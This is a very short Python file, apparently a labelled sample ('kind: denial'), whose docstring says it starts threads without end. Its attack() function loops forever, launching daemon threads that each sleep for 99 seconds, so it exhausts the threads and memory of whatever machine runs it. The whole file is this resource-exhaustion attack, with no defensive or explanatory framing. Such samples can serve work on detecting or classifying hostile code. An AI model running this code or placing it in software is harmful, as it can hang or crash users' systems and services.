"""Starts threads without end.

kind: denial
"""

import threading, time
def attack():
    while True: threading.Thread(target=time.sleep, args=(99,), daemon=True).start()
